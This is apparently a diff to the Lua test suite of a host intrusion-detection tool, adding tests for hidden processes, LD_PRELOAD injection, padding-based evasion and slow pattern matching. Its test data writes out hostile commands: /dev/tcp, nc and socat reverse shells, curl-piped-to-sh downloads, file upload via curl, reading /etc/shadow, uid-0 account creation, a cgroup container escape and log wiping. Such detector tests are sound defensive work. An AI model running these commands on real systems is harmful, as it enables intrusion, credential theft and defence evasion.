@@ -37,6 +37,18 @@ local function sh(text, fields)
   return exec({ "sh", "-c", text }, fields)
 end
 
+-- A program, `count` times one argument, and what else is given.
+local function stuffed(program, argument, count, ...)
+  local args = { program }
+  for i = 1, count do
+    args[i + 1] = argument
+  end
+  for i = 1, select("#", ...) do
+    args[#args + 1] = select(i, ...)
+  end
+  return args
+end
+
 -- --- the harness ------------------------------------------------------------------------------------
 
 local function told(host)
@@ -579,6 +591,8 @@ script("ld-preload", {
     ["an audit library"] = exec({ "ls" }, env("LD_AUDIT", "/home/u/a.so")),
     ["a shell's text"] = sh "LD_PRELOAD=/tmp/T1574006.so ls",
     ["env"] = exec { "env", "LD_PRELOAD=/dev/shm/x.so", "ls" },
+    ["env behind more variables than fit on a stack"] =
+      exec(stuffed("env", "A=", 9000, "LD_PRELOAD=/dev/shm/x.so", "ls")),
   },
   misses = {
     ["a library of the system"] = exec({ "ls" }, env("LD_PRELOAD", "/usr/lib/libfakeroot.so")),
@@ -977,34 +991,86 @@ script("new-listeners", {
   },
 })
 
-local function shown(answer, ends)
+local function flags(words)
+  local set = {}
+  for word in words:gmatch "%a+" do
+    set[word] = true
+  end
+  return set
+end
+
+-- What /proc and kill say of a process; `then_` is done after the first look.
+local function census(words, then_)
   return function(host)
-    local process = host:process { comm = "x", args = { "x" }, answers = { stat = answer }, parent = ancestors(host,
-      { "bash" }) }
-    for pid, other in pairs(host.alive) do
-      if pid ~= process.pid then
-        other.answers = { stat = { ppid = 1 } }
-      end
-    end
+    local process = host:process { comm = "x", args = { "x" }, parent = ancestors(host, { "bash" }) }
+    host.census_of[process.pid] = flags(words)
     host:advance(31)
-    if ends then
-      host:exit(process)
+    if then_ then
+      then_(host, process)
     end
     host:advance(5)
   end
 end
 
+-- The same of a pid of which no event told: `below` the largest that is known.
+local function unknown(words, below, then_)
+  return function(host)
+    local largest = host:process { pid = 20000, comm = "x", args = { "x" }, parent = ancestors(host, { "bash" }) }
+    host.census_of[largest.pid - below] = flags(words)
+    host:advance(2)
+    if then_ then
+      then_(host, largest.pid - below)
+    end
+    host:advance(40)
+  end
+end
+
+local function ends(host, process)
+  host.census_of[process.pid] = nil
+  host:exit(process)
+end
+
+local function is_another_by_now(host, process)
+  host:exit(process)
+  host:process { pid = process.pid, id = "boot-another", comm = "y", args = { "y" } }
+end
+
+local function a_crowd(host)
+  for i = 1, 2500 do
+    host:process { pid = 30000 + i, comm = "y", args = { "y" } }
+  end
+  census("lives open")(host)
+  local hidden = host:process { pid = 40000, comm = "last", args = { "last" } }
+  host.census_of[hidden.pid] = flags "lives"
+  host:advance(40)
+end
+
 script("hidden-process", {
   hits = {
-    ["a process that /proc does not show"] = { shown(function() return nil, "gone" end), severity = "critical" },
+    ["a process that /proc does not list"] = { census "lives open", severity = "critical", says = "lives, but /proc/" },
+    ["one that cannot be opened"] = { census "lives listed", severity = "critical" },
+    ["one that is nowhere"] = census "lives",
+    ["the last of a crowd"] = { a_crowd, says = "pid 40000 lives" },
+    ["a pid that no event told of"] = { unknown("lives open", 19000), severity = "critical", says = "pid 1000 lives" },
+    ["one in the last portion"] = { unknown("lives", 1), says = "pid 19999 lives" },
     ["a mount over a process"] = { exec { "mount", "-B", "/proc/1", "/proc/4711" }, severity = "high" },
     ["hidepid"] = exec { "mount", "-o", "remount,rw,hidepid=2", "/proc" },
     ["a signal of rootkits"] = exec { "kill", "-31", "4711" },
   },
   misses = {
-    ["one that is shown"] = shown { ppid = 1 },
-    ["one that ended meanwhile"] = shown(function() return nil, "gone" end, true),
-    ["a question without an answer"] = shown(function() return nil, "no answer in time" end),
+    ["one that is shown"] = census "lives listed open",
+    ["one whose end is about to be told"] = census "",
+    ["one that ended meanwhile"] = census("lives", ends),
+    ["one whose pid is another's meanwhile"] = census("lives", is_another_by_now),
+    ["a pid that is a thread's meanwhile"] = census "lives open thread",
+    ["a question without an answer"] = function(host)
+      host.census_fails = "no answer in time"
+      census "lives"(host)
+    end,
+    ["a thread that no event told of"] = unknown("lives open thread", 5),
+    ["a process that is listed and that no event told of"] = unknown("lives open listed", 5),
+    ["a pid that ended meanwhile"] = unknown("lives", 19999, function(host, pid) host.census_of[pid] = nil end),
+    ["pids when they are not asked for"] = { unknown("lives", 5), options = { sweep = 0 } },
     ["another mount"] = exec { "mount", "-B", "/srv", "/proc-x/1" },
     ["another signal"] = exec { "kill", "-9", "31" },
     ["signals when they are not asked for"] = { exec { "kill", "-31", "1" }, options = { signals = false } },
@@ -1053,10 +1119,57 @@ script("timestomp", {
 
 local scripts_table = require "scripts_table"
 
+-- What is put before it does not hide what a command line is about: `PAD` stands where there is room for it.
+local padded = {
+  { "reverse-shell", "bash", "-c", "PADbash -i >& /dev/tcp/10.0.0.1/4242 0>&1" },
+  { "reverse-shell", "sh", "-c", "PADmkfifo /tmp/f; PAD cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f" },
+  { "reverse-shell", "python3", "-c", 'PADimport socket,os;os.dup2(1,0);os.system("/bin/sh")' },
+  { "reverse-shell", "socat", "-lp", "PAD", "TCP:10.0.0.1:4444", "EXEC:'  bash -li'" },
+  { "tunnels", "ssh", "host", "PAD cat > x" },
+  { "tunnels", "curl", "-H", "PAD", "-F", "f=@/etc/hosts", "http://x/" },
+  { "container-escape", "docker", "run", "-e", "PAD", "--privileged", "x" },
+  { "container-escape", "nsenter", "PAD", "-t", "1", "sh" },
+  { "container-escape", "mount", "-t", "cgroup", "-o", "PAD,rdma", "cgroup", "/mnt" },
+  { "container-escape", "sh", "-c", "PAD echo /x > /sys/fs/cgroup/rdma/release_agent" },
+  { "defence-off", "iptables", "-m", "comment", "--comment", "PAD", "-F" },
+  { "defence-off", "sysctl", "PAD", "kernel.randomize_va_space=0" },
+  { "account-commands", "useradd", "-c", "PAD", "-o", "-u", "0", "x", severity = "high" },
+  { "credential-files", "sed", "-e", "PAD", "p", "/proc/1234/environ" },
+  { "credential-files", "sh", "-c", "PAD while read l; do :; done < /etc/shadow" },
+  { "offensive-tools", "bash", "-c", "PADfor p in 1 2; do echo > /dev/tcp/host/$p; done" },
+  { "setuid-bit", "find", "PAD", "-perm", "-4000" },
+  { "shell-breakout", "vim", "PAD", "-c", ":!PAD/bin/sh" },
+  { "shell-breakout", "tar", "PAD", "--checkpoint-action=exec=PAD/bin/sh" },
+  { "shell-breakout", "awk", "PADBEGIN {system(  \"/bin/sh\")}" },
+  { "log-wiping", "bash", "-c", "PADhistory -c" },
+  { "cron-persistence", "sh", "-c", "PADecho x > /etc/cron.d/x" },
+  { "ld-preload", "sh", "-c", "PADLD_PRELOAD=/tmp/x.so ls" },
+  { "download-and-execute", "sh", "-c", "PADcurl http://x/a | sh" },
+}
+local paddings = { blanks = (" "):rep(20000), newlines = ("\n"):rep(20000), tabs = (" \t"):rep(10000),
+  ["a long word"] = ":" .. ("x"):rep(20000) .. "; ", ["words that say nothing"] = ": " .. ("y "):rep(1000) .. "; " }
+
+describe("padding hides nothing:", function()
+  for _, case in ipairs(padded) do
+    for what, padding in pairs(paddings) do
+      it(("%s, %s, %s"):format(case[1], table.concat(case, " ", 2), what), function()
+        local args = {}
+        for i = 2, #case do
+          args[i - 1] = case[i]:gsub("PAD", padding)
+        end
+        local host = script_host.new():load("scripts/" .. case[1] .. ".lua")
+        exec(args)(host)
+        assert.is_true(#host.alerts > 0)
+        assert.equal(case.severity or host.alerts[1].severity, host.alerts[1].severity)
+      end)
+    end
+  end
+end)
+
 -- Who starts a process chooses its text. In the sandbox a call has 50 ms; a pattern whose time grows with a power of
 -- the length takes seconds for this.
 local programs = { "sh", "nc", "python3", "find", "vim", "tar", "docker", "cat", "sed", "chmod", "useradd", "script",
-  "dig" }
+  "dig", "env" }
 local pieces = { "-exec  ", "system  '", "a/", "//", "exec:", "|  ", "/dev/tcp/", "-perm -", "-ccc", "$(", "> a ",
   "\\", "-qc /", "." }
 
@@ -1074,6 +1187,83 @@ describe("a long text that is made for it", function()
       end
     end)
   end
+end)
+
+-- As much as an event holds, in all the ways that it can be full of one thing.
+local function filled(program)
+  local full, rows = 64 * 1024, {}
+  local fillings = { blanks = " ", letters = "a", slashes = "/", dots = ".", ["double quotes"] = '"', quotes = "'",
+    backslashes = "\\", newlines = "\n", bytes = "\1\27\127\128\255%[", hyphens = "-", signs = "<>|;",
+    dollars = "$", commas = "a,", colons = "/:", escapes = "\\a", commands = "a;", files = ">a ",
+    shells = " sh", networks = "/dev/tcp/" }
+  for what, piece in pairs(fillings) do
+    local text = piece:rep(full / #piece)
+    rows["an argument of " .. what] = { program, text }
+    rows["an argument behind -c of " .. what] = { program, "-c", text }
+    rows["a variable of " .. what] = { program, "LD_PRELOAD=" .. text }
+    rows["a name of " .. what] = { text:sub(1, 20000), "x" }
+  end
+  for _, argument in ipairs { "", "a", "-", "-c", "--", "-x", "/", "sh", "stop" } do
+    rows["30,000 arguments " .. argument] = stuffed(program, argument, 30000)
+  end
+  local different = { program }
+  for i = 1, 10000 do
+    different[i + 1] = ("-%c%c%c"):format(97 + i % 26, 97 + i / 26 % 26, 97 + i / 676 % 26)
+  end
+  rows["10,000 different options"] = different
+  rows["no arguments"] = {}
+  rows["an empty argument"] = { "" }
+  return rows
+end
+
+-- What this much of plain interpreted work takes here and now: on a machine of today a tenth of what a call may take.
+local function calibrate()
+  local from, sum = os.clock(), 0
+  for i = 1, 1000000 do
+    sum = sum + i % 7
+  end
+  return os.clock() - from
+end
+
+describe("events that are as full as they can be", function()
+  local all, measure = {}, math.huge
+  setup(function()
+    for _, program in ipairs(programs) do
+      all[program] = filled(program)
+    end
+    for _ = 1, 5 do
+      measure = math.min(measure, calibrate())
+    end
+  end)
+
+  -- The fastest of three, as others may run meanwhile.
+  local function took(host, parent, program, args)
+    local best = math.huge
+    for _ = 1, 3 do
+      local exe = args[1] ~= program and "/usr/bin/x" or nil
+      local from = os.clock()
+      host:exec(parent, args, { exe = exe, comm = program, container = "c" })
+      best = math.min(best, os.clock() - from)
+      if best < measure then
+        break
+      end
+    end
+    return best
+  end
+
+  for _, name in ipairs(scripts_table.names()) do
+    it("are no error and take no long time: " .. name, function()
+      local host = script_host.new():load("scripts/" .. name .. ".lua")
+      local parent = ancestors(host, { "systemd", "sshd", "bash" })
+      for _, program in ipairs(programs) do
+        for what, args in pairs(all[program]) do
+          local best = took(host, parent, program, args)
+          assert.is_true(best < 6 * measure, ("%s, %s: %.1f times"):format(program, what, best / measure))
+        end
+      end
+    end)
+  end
+  teardown(function() all = nil end)
 end)
 
 describe("each of scripts/", function()
